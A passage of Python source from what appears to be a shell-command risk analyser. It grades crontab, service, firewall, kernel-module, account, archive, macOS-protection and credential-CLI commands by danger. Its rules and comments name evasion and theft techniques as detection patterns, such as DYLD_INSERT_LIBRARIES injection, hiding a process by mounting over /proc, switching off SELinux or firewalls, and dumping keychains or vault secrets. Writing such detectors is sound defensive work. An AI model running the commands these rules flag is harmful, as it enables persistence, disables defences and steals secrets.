        if name == "openssl" and "s_client" in args:
            self._rule_nc(name, args, node, flow)  # a TLS client: network like nc

    def _rule_crontab(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        flags, operands = W.options(W.skip_valued(args, {"-u"}))  # -u USER names whose crontab, not a file
        if "l" in flags and not operands:
            return
        owners = W.option_values(args, "-u")
        if "r" in flags and owners:
            # `sudo crontab -u backup -r`: another account's scheduled jobs (its backups, its reports) all stop
            self._add("shell.persistence", RiskLevel.HIGH, Category.PERSISTENCE,
                      f"removes the crontab of {owners[0]} (every job it schedules stops)", node)  # fmt: skip
        elif "r" in flags:
            self._add("shell.persistence", RiskLevel.MEDIUM, Category.PERSISTENCE, "removes the user's crontab", node)
            return
        entries = cron_commands(self._stdin_text) if operands in ([], ["-"]) and self._stdin_text else None
        if entries and HOLE not in "".join(entries):
            found = [f for entry in entries for f in self._nested(entry, "shell", node, "a crontab entry")]
            if heartbeats_only(entries):
                found = [f for f in found if f.category is not Category.NETWORK or f.level > RiskLevel.LOW]
            # (a server started on every interface at each boot is an exposure kept alive, not a chore)
            if tame(found) and not any(
                hidden_or_temporary(e) or fetches_then_runs(e) or _SERVES_EVERYWHERE.search(e) for e in entries
            ):
                # the user's own script on a schedule: worth a look, not a block
                self._add(
                    "shell.persistence",
                    RiskLevel.MEDIUM,
                    Category.PERSISTENCE,
                    f"installs a crontab entry: {entries[0][:60]}",
                    node,
                )
                return
        # (the user's own schedule: `crontab -u bob jobs.txt` plants jobs in another account's)
        # (unless the project keeps that account's schedule by its name: `crontab -u reports cron/reports.crontab`)
        named_for = bool(owners) and len(operands) == 1 and owners[0] in posixpath.basename(operands[0])
        project_file = (not owners or named_for) and len(operands) == 1 and operands[0] != "-" and (
            HOLE not in operands[0]
        ) and (
            paths.classify(operands[0]).kind is paths.PathKind.RELATIVE
            and operands[0] not in self.downloaded
            and operands[0] not in self._own_files
            and operands[0] not in self._created
        )
        if project_file:
            # `crontab deploy/cron/backoffice.cron`: the project's own schedule, reviewed with its code (one this
            # script wrote or downloaded is judged by what it holds)
            self._add("shell.persistence", RiskLevel.MEDIUM, Category.PERSISTENCE,
                      f"installs the project's own crontab file ({operands[0]})", node)  # fmt: skip
            return
        self._add(
            "shell.persistence",
            RiskLevel.HIGH,
            Category.PERSISTENCE,
            "installs a crontab (runs commands on a schedule)",
            node,
        )

    def _rule_service(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        words = [a for a in args if not a.startswith("-")]
        action = words[0] if words else ""
        if name == "service" and len(words) >= 2:
            action, words = words[1], [words[1], words[0]]
        units = " ".join(words[1:]).lower()
        if name == "launchctl" and action == "setenv" and any(CODE_LOADING_VARIABLES.match(w) for w in words[1:2]):
            # `launchctl setenv DYLD_INSERT_LIBRARIES lib.dylib`: loaded into every app the user starts next
            self._add("shell.persistence", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"launchctl setenv {words[1]} loads code into every app of the session", node)  # fmt: skip
        if name in ("launchctl",) and action in ("load", "bootstrap", "submit", "enable"):
            plists = [w for w in words[1:] if w.endswith(".plist")]
            written = [self._written_texts.get(p) for p in plists]
            # a user agent whose file this script wrote with harmless content: like `systemctl --user enable`
            quiet = bool(plists) and all(
                "LaunchAgents" in p and text is not None and harmless_content(paths.classify(p), text)
                for p, text in zip(plists, written, strict=True)
            )
            self._add("shell.persistence", RiskLevel.MEDIUM if quiet else RiskLevel.HIGH, Category.PERSISTENCE,
                      "registers a launchd job", node)  # fmt: skip
        elif name in ("update-rc.d", "chkconfig", "rc-update") and not (set(args) & {"show", "--list", "list"}):
            self._add(
                "shell.persistence", RiskLevel.HIGH, Category.PERSISTENCE, f"{name} registers a boot service", node
            )
        elif action in ("poweroff", "reboot", "halt", "kexec", "suspend", "hibernate"):
            level = RiskLevel.MEDIUM if action == "reboot" and self._reboot_required() else RiskLevel.HIGH
            self._add("shell.power", level, Category.PRIVILEGE, f"{name} {action} stops the machine", node)
        elif action in ("enable", "link", "preset") and name == "systemctl":
            # a packaged unit (syncthing, docker) is the package's; a unit this code wrote is graded
            # where it is written, by what it runs
            self._add(
                "shell.persistence",
                RiskLevel.MEDIUM,
                Category.PERSISTENCE,
                f"systemctl {action} makes a service start at boot or login",
                node,
            )
        elif action in ("stop", "disable", "mask", "kill", "unload", "bootout", "remove") and any(
            s in units for s in T.SECURITY_SERVICES
        ) and not (action == "stop" and self._started_again(units)):
            self._add(
                "shell.defense-evasion",
                RiskLevel.HIGH,
                Category.PRIVILEGE,
                f"{name} {action} turns off a security or cluster service ({units})",
                node,
            )
        elif name == "systemctl" and any(b in units.lower() for b in T.BACKUP_SERVICES) and (
            action in ("disable", "mask") or (action == "stop" and ".timer" in units)
        ):
            self._add("shell.backup-off", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"systemctl {action} switches backups off ({units.replace(HOLE, '…')}): nothing is backed up "
                      "from then on", node)  # fmt: skip
        elif action == "mask" and T.WATCHERS.search(units) and name == "systemctl":
            self._add("shell.defense-evasion", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"systemctl mask turns off alarms, monitors or safety controllers ({units.replace(HOLE, '…')}) "
                      "so that nothing can start them again", node)  # fmt: skip
        elif action == "mask" and name == "systemctl" and self._masks_applications(words[1:]):
            self._add("shell.service", RiskLevel.HIGH, Category.PROCESS,
                      "systemctl mask switches several application services off for good (nothing can start them "
                      "until they are unmasked)", node)  # fmt: skip
        elif action in ("stop", "disable", "mask", "kill", "restart", "start", "daemon-reload"):
            self._add(
                "shell.service", RiskLevel.MEDIUM, Category.PRIVILEGE, f"{name} {action} changes system services", node
            )

    def _masks_applications(self, units: list[str]) -> bool:
        """``systemctl mask`` of the machine's own services (named, or each name a loop gives), not the operating
        system's optional extras a hardening script masks (avahi, cups, sleep targets)."""
        given = [u for u in units if u and not u.startswith("-")]
        named = [u.lower() for u in given if u.strip(HOLE)]
        return bool(given) and not any(
            u.endswith(".target") or u.startswith(("systemd-", "apt-")) or u.split(".")[0] in _OPTIONAL_OS_UNITS
            for u in named
        )

    def _started_again(self, units: str) -> bool:
        """The script starts (or restarts) the stopped units again: stopped for an upgrade, not turned off."""
        source = self._source.decode("utf-8", "replace")
        names = [u for u in units.split() if u and HOLE not in u]
        # (or runs the daemon itself in the foreground to debug it: `systemctl stop freeradius; freeradius -X`)
        return bool(names) and all(
            re.search(r"\bsystemctl\s+(?:--\S+\s+)*(?:start|restart)\s+(?:[\w@.-]+\s+)*" + re.escape(u) + r"\b", source)
            or re.search(r"(?:^|[;&|]\s*|sudo\s+)" + re.escape(u.removesuffix(".service")) + r"\s+-[dXf]", source,
                         re.MULTILINE)
            for u in names
        )

    def _rule_power(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if name == "init" and not any(a in ("0", "6", "1", "s", "S") for a in args):
            return
        level = RiskLevel.MEDIUM if name == "reboot" and self._reboot_required() else RiskLevel.HIGH
        self._add("shell.power", level, Category.PRIVILEGE, f"{name} stops or restarts the machine", node)

    def _reboot_required(self) -> bool:
        """The script restarts the machine only when updates asked for it (`if [ -f /var/run/reboot-required ]`,
        `needs-restarting -r`): maintenance that finishes an upgrade."""
        return _REBOOT_REQUIRED.search(self.enclosing + self._source.decode("utf-8", "replace")) is not None

    def _rule_firewall(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        joined = " ".join(args)
        ports = {p for v in W.option_values(args, "--dport", "--dports") for p in v.split(",")}
        if name in ("iptables", "ip6tables") and "INPUT" in args and "ACCEPT" in args and ports & _UNEXPOSED_PORTS and (
            not W.option_values(args, "-s", "--source", "--src-range", "-i")
        ):
            # remote desktop, telnet, a container engine's or a database's port opened to every address
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} opens port {sorted(ports & _UNEXPOSED_PORTS)[0]} to every address (a service that is "
                      "never meant to face the internet)", node)  # fmt: skip
        redirected = _INTERCEPTED_PORT.search(joined) and (
            _DNAT_ELSEWHERE.search(joined) or re.search(r"\bdnat\s+(?:ip\s+)?to\s+(?!127\.|\[?::1)", joined)
        )
        if redirected:
            # the machine's DNS or web traffic handed to another host: it answers, or reads, in their place
            self._add("shell.interception", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} redirects outgoing DNS or web traffic to another host", node)  # fmt: skip
        dropped = re.search(r"\bOUTPUT\b.*-j\s+(?:DROP|REJECT)\b", joined) is not None
        if dropped and set(W.option_values(args, "--dport", "--dports")) & T.LOG_SHIPPING_PORTS:
            self._add("shell.defense-evasion", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"{name} blocks this machine's logs from reaching their collector (syslog, SIEM ports)",
                      node)  # fmt: skip
        udp = re.search(r"(?:-p|--protocol|proto)\s+udp\b", joined) is not None
        # (`ufw allow 27015:27020/udp`: a range's protocol follows its last port)
        opened = [p for p, proto in _OPENED_PORT.findall(joined)
                  if p in _UDP_SERVICES or not (proto == "/udp" or (udp and proto != "/tcp"))]  # fmt: skip
        admin = [p for p in opened if p in T.ADMIN_PORTS]  # (consoles and data stores listen on TCP, most of them)
        source = args[args.index("from") + 1] if "from" in args[:-1] else None
        sources = W.option_values(args, "-s", "--source")
        everyone = (name == "ufw" and "allow" in args and source in (None, "any", "0.0.0.0/0", "::/0")) or (
            "ACCEPT" in args and all(s in ("0.0.0.0/0", "::/0", "0/0") for s in sources)
        )
        if admin and everyone:
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} opens {T.ADMIN_PORTS[admin[0]]} (port {admin[0]}) to every address", node)  # fmt: skip
            return
        adds = any(a in ("-A", "-I", "--append", "--insert", "add") for a in args)
        if adds and name in ("iptables", "ip6tables", "nft") and any(lp.endless and not lp.paced for lp in self._loops):
            self._add("shell.resource", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} adds rules in an endless loop (netfilter's tables grow until kernel memory runs out)",
                      node)  # fmt: skip
            return
        weakened = _selinux_weakened(name, args)
        if weakened is not None:
            self._add("shell.defense-evasion", RiskLevel.HIGH, Category.PRIVILEGE, weakened, node)
            return
        if (
            (name == "setenforce" and args[:1] in (["0"], ["Permissive"], ["permissive"]))
            or (name == "ufw" and "disable" in args)
            or (
                name in ("iptables", "ip6tables")
                and any(a in ("-F", "--flush", "-X") or (a == "ACCEPT" and "-P" in args) for a in args)
            )
            or (name == "nft" and "flush" in joined)
            # pf (BSD, pfSense, macOS) switched off or emptied of its rules
            or (name == "pfctl" and ("-d" in args or _pf_flushed(args)))
            or name == "aa-teardown"
            or (name == "auditctl" and "-D" in args)
        ):
            self._add(
                "shell.defense-evasion",
                RiskLevel.HIGH,
                Category.PRIVILEGE,
                f"{name} {joined} disables a security control",
                node,
            )
        elif name == "ufw" and args[:3] in (["default", "allow", "incoming"], ["default", "allow"]):
            self._add("shell.defense-evasion", RiskLevel.HIGH, Category.PRIVILEGE,
                      "ufw default allow incoming lets every port be reached from the network", node)  # fmt: skip
        elif name == "firewall-cmd" and (
            "--set-default-zone=trusted" in args
            or ("--zone=trusted" in args and any(a.startswith(("--add-interface", "--change-interface")) for a in args))
            or (any(a.startswith("--add-source=") and a.endswith(("=0.0.0.0/0", "=::/0")) for a in args))
        ):
            self._add("shell.defense-evasion", RiskLevel.HIGH, Category.PRIVILEGE,
                      "firewall-cmd trusts every connection (the trusted zone accepts all traffic)", node)  # fmt: skip
        elif name in ("iptables", "ip6tables", "nft") and any(
            outside_address(t.split(":")[0]) for t in [*W.option_values(args, "--to-destination"), *_nft_dnat(args)]
        ):
            self._add("shell.traffic-redirect", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} redirects connections to an outside address (what was meant for another host goes "
                      "there)", node)  # fmt: skip
        elif name in ("iptables", "ip6tables", "nft", "ufw", "firewall-cmd") and not (
            {"-L", "-S", "--list", "status", "list", "--state", "--list-all", "--get-active-zones"} & set(args)
        ):
            self._add("shell.firewall", RiskLevel.MEDIUM, Category.PRIVILEGE, f"{name} changes firewall rules", node)

    def _rule_kernel(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if name == "sysctl" and not any(a.startswith("-w") or "=" in a for a in args):
            return
        if name in ("mount", "umount") and not args:
            return
        _, operands = W.options(args, frozenset({"-o", "-t", "--options", "--types"}))
        if name == "mount" and any(re.match(r"/proc/(?:\d+|\$|" + HOLE + ")", o) for o in operands[1:]):
            self._add("shell.hide-process", RiskLevel.HIGH, Category.PROCESS,
                      "mounts over a process's /proc entry (hides it from ps and monitors)", node)  # fmt: skip
            return
        if name == "modprobe" and any(a in _MODPROBE_QUERIES for a in args):
            return  # `modprobe --dry-run --show-depends vfio-pci`: what would load, nothing loaded
        settings = [a.split("=", 1)[0] for a in args if "=" in a]
        # (forwarding switched on for the outbound NAT of local VMs and containers, as Docker's daemon does itself;
        # with inbound redirection, interception or a DHCP server of its own the host becomes a pivot or a MITM)
        # (a command handed over alone, from Python, is judged without the script that says what the routing is for)
        routing = not self._exact_argv and not _INTERCEPTION.search(self._source.decode("utf-8", "replace"))
        tuning = name == "sysctl" and bool(settings) and all(
            k.strip() in _CAPACITY_SYSCTLS or (routing and k.strip() in _FORWARDING_SYSCTLS) for k in settings
        )
        # `modprobe v4l2loopback devices=1`, `modprobe -r iwlwifi`: a module of the installed kernel's own tree (the
        # distribution's, signed where Secure Boot is on), loaded with options or unloaded; not forced past its checks
        forced = bool({"-f", "--force", "--force-vermagic", "--force-modversion"} & set(args)) or any(
            _HIDING_OPTION.match(a) for a in args  # `modprobe hidemod hide_prefix=.x`: a rootkit's settings
        )
        driver = name == "modprobe" and operands[:1] != [] and not forced and "/" not in operands[0]
        # `insmod ./hello.ko`, `rmmod hello`: the project's own module under development, loaded and unloaded
        # (not one built from a clone or a download, nor in the temporary directory: someone else's code)
        foreign = bool(self.cloned) or bool(self.downloaded) or (
            self._cwd is not None and paths.classify(self._cwd).kind is paths.PathKind.TEMP
        )
        own_module = name == "insmod" and operands[:1] != [] and not foreign and paths.classify(operands[0]).kind in (
            paths.PathKind.RELATIVE, paths.PathKind.WORKDIR
        )
        driver = driver or own_module or (name == "rmmod" and not forced)
        # raising a limit a database or a file watcher needs (Elasticsearch's vm.max_map_count) weakens nothing
        level = RiskLevel.MEDIUM if name in ("mount", "umount", "swapoff") or tuning or driver else RiskLevel.HIGH
        self._add("shell.kernel", level, Category.PRIVILEGE, f"{name} changes the kernel or mounts", node)

    def _rule_user_admin(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Accounts and capabilities: graded by what they grant (root's uid, admin groups, a set password)."""
        joined = " ".join(args)
        groups = {g for v in W.option_values(args, "-G", "-g", "--groups", "--gid", "-aG") for g in v.split(",")}
        groups |= {a for a in args if not a.startswith("-")} if name in ("gpasswd", "adduser") else set()
        # `gpasswd -d jdoe docker`, `deluser jdoe docker`: an account taken out of a group loses rights
        removes = name in ("deluser", "delgroup", "userdel") or (
            name == "gpasswd" and any(a in ("-d", "--delete") for a in args)
        )
        admin_group = bool(groups & T.ADMIN_GROUPS) and not removes
        # `adm` reads the system's logs (a log shipper's service account in it is how shippers are set up)
        log_reader = groups & T.ADMIN_GROUPS == {"adm"} and not removes and "root" not in args
        admin_group = admin_group and not log_reader
        root_uid = any(v in ("0", "root") for v in W.option_values(args, "-u", "--uid", "-o")) or "-o" in args
        sets_password = any(a in ("-p", "--password") for a in args) or name in ("chpasswd", "newusers")
        operands = W.skip_options(args, _ACCOUNT_VALUED)
        if name in ("useradd", "adduser") and operands and not root_uid and not admin_group:
            self._new_accounts.add(operands[-1])
        typed = self._heredoc_text if self._heredoc_text is not None else self._stdin_text
        set_for = {line.split(":", 1)[0].strip() for line in (typed or "").splitlines() if ":" in line}
        if name == "chpasswd" and set_for and set_for <= self._new_accounts:
            sets_password = False  # a first password for the accounts this script just created (a new hire's)
        if name == "setcap":
            interpreter = any(W.base(a).rstrip("0123456789.") in T.PYTHONS | T.SHELLS | T.OTHER_INTERPRETERS
                              for a in args if not a.startswith("-")) or bool(node is not None and re.search(
                r"\b(?:python3?|node|perl|ruby|bash)\b", self._text(node)))  # fmt: skip
            grants = any(c in joined for c in ("cap_setuid", "cap_sys_admin", "cap_dac", "cap_net_raw", "cap_net_admin",
                                               "cap_sys_ptrace", "cap_sys_module", "cap_sys_rawio", "cap_bpf",
                                               "cap_setgid", "cap_fowner", "cap_chown")) or interpreter  # fmt: skip
            level = RiskLevel.HIGH if grants else RiskLevel.MEDIUM
        elif root_uid or (name in ("visudo", "vipw", "pwconv") and "-c" not in joined):
            level = RiskLevel.CRITICAL if root_uid else RiskLevel.HIGH
        elif admin_group or sets_password or "root" in args:
            level = RiskLevel.HIGH
        elif log_reader:
            level = RiskLevel.MEDIUM
        elif name == "visudo":
            return  # visudo -c only checks the syntax
        else:
            level = RiskLevel.MEDIUM  # a named account created, locked, expired or moved between groups
        what = (
            "gives an account root's uid"
            if root_uid
            else "puts an account in an administrators' group"
            if admin_group
            else "puts an account in the group that reads the system's logs (adm)"
            if log_reader
            else f"{name} changes users, groups or capabilities"
        )
        self._add("shell.user-admin", level, Category.PRIVILEGE, what if what.startswith(name) else f"{name} {what}",
                  node)  # fmt: skip

    def _rule_miner(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        self._add("shell.miner", RiskLevel.HIGH, Category.RESOURCE, f"{name} is a cryptocurrency miner", node)

    def _extraction(self, name: str, args: list[str], node: Any) -> None:
        """Unpacking over the home directory or the system, or keeping the archive's absolute and ``..`` paths."""
        if not _extracts(name, args):
            return
        absolute = any(a in ("-P", "--absolute-names") or (a.startswith("-") and not a.startswith("--") and "P" in a)
                       for a in args)  # fmt: skip
        dest = (W.option_values(args, "-d") if name == "unzip" else W.option_values(args, "-C", "--directory"))
        dest = dest or [a[2:] for a in args if name.startswith("7z") and a.startswith("-o")] or [self._cwd or "."]
        info = paths.classify(dest[-1])
        archives = [a for a in args if _ARCHIVE_NAME.search(a)]
        self._unpacked_into.add(dest[-1].rstrip("/"))
        if any(paths.untrusted_inbox(a) for a in archives):
            # what a mail attachment or an upload holds: running it is running a download
            self.cloned.add(posixpath.normpath(dest[-1]))
        # (a tool into /usr/local or /opt; sources into /usr/src, to be built there)
        local_software = (dest[-1].rstrip("/") + "/").startswith(("/usr/local/", "/opt/", "/usr/src/"))
        over = info.kind in (paths.PathKind.ROOT, paths.PathKind.HOME_TOP) or (
            info.kind in (paths.PathKind.SYSTEM, paths.PathKind.SYSTEM_TOP) and not local_software
            and not self._in_made_folder(info)
        )
        if absolute or over:
            self._add("shell.write", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} unpacks an archive " + ("keeping its absolute paths (writes anywhere)" if absolute
                                                       else f"over {paths.describe(info)}"), node)  # fmt: skip

    def _rule_rewriters(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Duplicate finders that delete and image tools that rewrite files in place, graded by where."""
        operands = [a for a in args if not a.startswith("-")]
        if name in ("fdupes", "jdupes"):
            deleting = any(a in ("-d", "--delete") or (a.startswith("-") and not a.startswith("--") and "d" in a)
                           for a in args)  # fmt: skip
        elif name == "rdfind":
            deleting = any(args[i : i + 2] == ["-deleteduplicates", "true"] for i in range(len(args)))
        else:  # mogrify rewrites every file it is given, unless `-path DIR` sends the results elsewhere
            deleting = "-path" not in args
        if not deleting:
            return
        for operand in operands:
            info = paths.classify(operand)
            users = (paths.PathKind.HOME_TOP, paths.PathKind.HOME, paths.PathKind.ROOT, paths.PathKind.EXTERNAL)
            # (`mkdir -p ~/exports/web; cp … ~/exports/web/; mogrify … ~/exports/web/*.jpg`: the copies it just made)
            copies = name == "mogrify" and posixpath.dirname(operand).rstrip("/") in self.made_dirs
            if info.kind in users and not copies:
                what = "deletes duplicate files" if name != "mogrify" else "rewrites images in place (lossy)"
                self._add("shell.delete", RiskLevel.HIGH, Category.FILESYSTEM,
                          f"{name} {what} under {paths.describe(info)} without asking", node)  # fmt: skip
                return

    def _rule_archive(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        self._extraction(name, args, node)
        for command in _archiver_commands(args):
            self._nested(command, "shell", node, f"{name} runs a command")
        # tar/zip of a whole home or /etc is bulk sensitive data: exfiltration if it reaches the network
        _, operands = W.options(args)
        archive = W.archive_file(name, args)
        if archive and archive not in ("-", "/dev/stdout") and not _extracts(name, args):
            self._archives.add(archive)  # the archive this script makes (removed later once copied or encrypted)
            if not W.option_values(args, "-C", "--directory"):
                self._archived.update(posixpath.normpath(o.rstrip("/")) for o in operands if o != archive)
        base = W.option_values(args, "-C", "--directory")
        for folder in base:
            if folder in operands:
                operands.remove(folder)  # (`-C ~ thesis`: the folder tar changes to, not a member)
        listed = "-" in W.option_values(args, "-T", "--files-from") or "--files-from=-" in args
        if listed and self._stdin_listing:
            # `find /srv/scans -name '*.jpg' -print0 | tar --null -czf - -T -`: the files the listing gave
            operands = [*(o for o in operands if o != "-"), self._stdin_listing]
        if not _extracts(name, args) and any(paths.whole_file_system(o) for o in operands if o != archive) and not base:
            self._add("shell.archive-all", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} archives the whole file system (every secret on the machine, and as much disk again)",
                      node)  # fmt: skip
        operands = [
            # `tar cz -C ~/.config Signal`: ~/.config/Signal
            posixpath.join(base[-1], o) if base and o != archive and not o.startswith(("/", "~")) else o
            for o in operands
        ]
        if base and archive and archive not in ("-", "/dev/stdout") and not _extracts(name, args):
            # (`tar czf jobcards-$m.tgz -C /srv/jobcards "$m"`: /srv/jobcards/$m is kept in the archive)
            self._archived.update(posixpath.normpath(o.rstrip("/")) for o in operands if o != archive)
        for operand in operands:
            info = paths.classify(operand)
            top = info.kind in (paths.PathKind.HOME_TOP, paths.PathKind.SYSTEM_TOP, paths.PathKind.ROOT)
            if any(staged == operand or staged.startswith(operand.rstrip("/") + "/") for staged in self.staged):
                flow.secret = True  # a folder this script filled with secret data (pulled app databases)
            if (
                info.secret
                or info.history
                or (top and info.kind is not paths.PathKind.SYSTEM_TOP)
                or (info.kind is paths.PathKind.SYSTEM_TOP and operand.rstrip("/").endswith(("etc", "root", "home")))
            ):
                flow.secret = True
            elif archive and (
                _SETTINGS_HOLDING_SECRETS.search(operand) is not None
                or (self._cwd and _SETTINGS_HOLDING_SECRETS.search(posixpath.join(self._cwd, operand)) is not None)
            ):
                # an application's settings: its folder under /etc, its production or secrets file (the database's
                # password, the keys it signs with): the organisation's own backup keeps them, another host takes them
                self._settings_archives.add(archive)
        # the project itself, .env files and all, unless they are left out
        leaves_env_out = any(".env" in a for a in args if a.startswith("--exclude") or a.startswith("-x")) or any(
            args[i] in ("--exclude", "-x") and ".env" in args[i + 1] for i in range(len(args) - 1)
        )
        if not leaves_env_out and not base and any(
            paths.classify(o).kind is paths.PathKind.WORKDIR for o in operands if o != archive
        ):  # (`-C /var/log/app .` archives that folder, not the project)
            flow.secret = True
        if archive and (flow.secret or self._stdin_secret):
            self.staged.add(archive)
        elif archive and any(
            paths.personal_media(posixpath.join(self._cwd or ".", o))
            # a server's folder of people's records (`/srv/guest-id-scans`, `/data/payroll`)
            or (HOLE not in o and paths.classify(o).kind is paths.PathKind.EXTERNAL and paths.people_records(o))
            or o in self._bulk_files
            # a folder this script wrote a dump into (`mysqldump … > "$tmp/db.sql"`, then `tar -C "$tmp" .`)
            or any(b.startswith(posixpath.normpath(o).rstrip("/") + "/") for b in self._bulk_files)
            # a whole data folder of a server (`-C /srv/reports .`, `cd /srv/clinic && tar c histories`), people's
            # profiles on a mounted disk
            or (base and HOLE not in o and paths.classify(o).kind is paths.PathKind.EXTERNAL)
            or (self._cwd is not None and self._cwd.startswith("/")
                and HOLE not in self._cwd + o and not o.startswith("/")
                and paths.classify(posixpath.join(self._cwd, o)).kind is paths.PathKind.EXTERNAL)
            or bool(_PROFILES_FOLDER.search(o))
            # a data folder outside the project and the system (`/project/ukbiobank/restricted`), streamed out
            or (archive in ("-", "/dev/stdout") and HOLE not in o and (
                paths.classify(o).kind is paths.PathKind.EXTERNAL or _APP_DATA_DIR.match(o) is not None))
            # an installed application's database (`/opt/centralstation/data/accounts.db`): its customers' records
            # (a server's data files by the glob, from its data folder: `cd /var/opt/mssql/data; tar c *.mdf`)
            or (paths.database_file(o) and paths.classify(
                posixpath.join(self._cwd, o) if self._cwd and HOLE not in self._cwd else o
            ).kind in (paths.PathKind.SYSTEM, paths.PathKind.EXTERNAL))
            for o in operands
            if o != archive
        ):
            self._bulk_files.add(archive)
            if archive in ("-", "/dev/stdout"):
                flow.dump = True  # `tar czf - dump.sql …`: the records, on standard output

    def _rule_zowe(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """The Zowe CLI: a z/OS UNIX command it runs over ssh is judged as shell; a z/OS UNIX file it deletes
        as ``rm`` would be (RACF, console and JCL text are judged on the whole script)."""
        words = W.options(args, _ZOWE_VALUED)[1]
        if words[:3] == ["zos-uss", "issue", "ssh"] and len(words) > 3:
            self._nested(words[3], "shell", node, "zowe zos-uss issue ssh")
        if words[:3] == ["zos-files", "delete", "uss-file"] and len(words) > 3:
            recursive = any(a in ("-r", "--recursive") for a in args)
            self._argv(["rm", "-rf" if recursive else "-f", words[3]], node, flow, [])

    def _rule_edr_agent(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        tampering = edr_agent_tampering(name, args)
        if tampering:
            self._add("shell.defense-evasion", RiskLevel.HIGH, Category.PRIVILEGE, tampering, node)

    def _rule_isi_for_array(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """PowerScale's ``isi_for_array [-s] [-n NODES] CMD``: CMD runs on every node of the cluster."""
        words = W.options(args, frozenset({"-n", "-x", "--nodes", "--exclude-nodes"}))[1]
        if words:
            self._nested(" ".join(words), "shell", node, "isi_for_array (on every node)")

    def _rule_splunk(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``splunk cmd PROGRAM …`` runs PROGRAM in Splunk's environment (judged as it is); ``splunk install app``
        installs a package whose scripts Splunk runs."""
        if args[:1] == ["cmd"] and len(args) > 1:
            self._argv(args[1:], node, flow, [])
        package = args[2] if args[:2] == ["install", "app"] and len(args) > 2 else ""
        if package and (package in self.downloaded or posixpath.basename(package) in self.downloaded):
            self._runs_download(f"{name} install app", package, node)

    def _rule_keychain(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        if args[:1] == ["set-key-partition-list"] and any("unsigned:" in a for a in W.option_values(args, "-S")):
            self._add("shell.keychain", RiskLevel.HIGH, Category.PRIVILEGE,
                      "security lets unsigned programs read the keychain's keys without asking", node)  # fmt: skip
        if any(a in ("dump-keychain", "find-generic-password", "find-internet-password", "export") for a in args):
            flow.secret = True
            # one item the user named, printed for this shell (`security find-generic-password -s api -w`)
            one = args[:1] in (["find-generic-password"], ["find-internet-password"]) and bool(
                W.option_values(args, "-s", "-a", "-l")
            ) and "-w" in args
            self._add(
                "shell.secret-read",
                RiskLevel.MEDIUM if one else RiskLevel.HIGH,
                Category.EXFILTRATION,
                f"{name} {args[0] if args else ''} reads "
                + ("one named password from the keychain" if one else "passwords from the keychain"),
                node,
            )

    def _rule_macos_protection(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Turning off Gatekeeper, SIP or privacy grants, or stripping an app's quarantine flag."""
        lowered = [a.lower() for a in args]
        if name == "xattr":
            disabling = any(a.startswith("-") and ("d" in a or "c" in a) for a in lowered) and (
                "com.apple.quarantine" in lowered or any(a.startswith("-") and "c" in a for a in lowered)
            )
            what = "removes the quarantine flag, so Gatekeeper never checks the downloaded app"
        elif name == "spctl":
            disabling = any(a in ("--master-disable", "--global-disable", "--disable", "--add") for a in lowered)
            what = "turns Gatekeeper off (or whitelists an app)"
        elif name == "csrutil":
            disabling = any(a in ("disable", "clear") for a in lowered)
            what = "disables System Integrity Protection"
        else:  # tccutil
            disabling = "reset" in lowered
            what = "resets privacy grants (camera, screen, disk access)"
        files = [a for a in args if not a.startswith("-") and a.lower() != "com.apple.quarantine"]
        # the project's own build output (never downloaded, so never quarantined by the browser)
        built = name == "xattr" and bool(files) and all(
            paths.classify(f).kind is paths.PathKind.RELATIVE and f not in self.downloaded and not self._in_clone(f)
            for f in files
        )
        # one app's prompts reset (`tccutil reset Camera com.example.myapp`): its developer testing them again
        one_app = name == "tccutil" and len(files) >= 3 and "." in files[-1]
        if disabling:
            level = RiskLevel.LOW if built else RiskLevel.MEDIUM if one_app else RiskLevel.HIGH
            self._add("shell.defense-evasion", level, Category.PRIVILEGE,
                      f"{name} {what}" + (" (the project's own build output)" if built else ""), node)  # fmt: skip

    def _rule_credential_cli(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Password managers and cloud CLIs that print a stored secret or token."""
        words = " ".join(args)
        deletes = (name in ("op", "bw") and args[:2] in (["item", "delete"], ["delete", "item"])) or (
            name in ("gopass", "pass") and args[:1] in (["rm"], ["delete"], ["remove"])
        )
        if deletes and (self._loops or self._repeated or self._mass):
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} deletes every item a vault listing gives (the passwords are gone)", node)  # fmt: skip
        if name == "bw" and args[:1] == ["serve"] and (
            any(h not in ("localhost", "127.0.0.1", "::1") for h in W.option_values(args, "--hostname"))
            or "--disable-origin-protection" in args
        ):
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      "bw serve opens the unlocked vault's API beyond this machine or to any web page",
                      node)  # fmt: skip
        printing = {
            "secret-tool": ("lookup", "search"),
            "pass": ("show",),
            "gopass": ("show",),
            "op": ("read", "item get"),
            "bw": ("get", "export", "list items"),
            "lpass": ("show", "export"),
            "vault": ("kv get", "read", "token lookup"),
            "keyring": ("get",),
            "doppler": ("secrets download", "secrets get"),
            "infisical": ("export", "secrets get"),
            "bws": ("secret list", "secret get"),
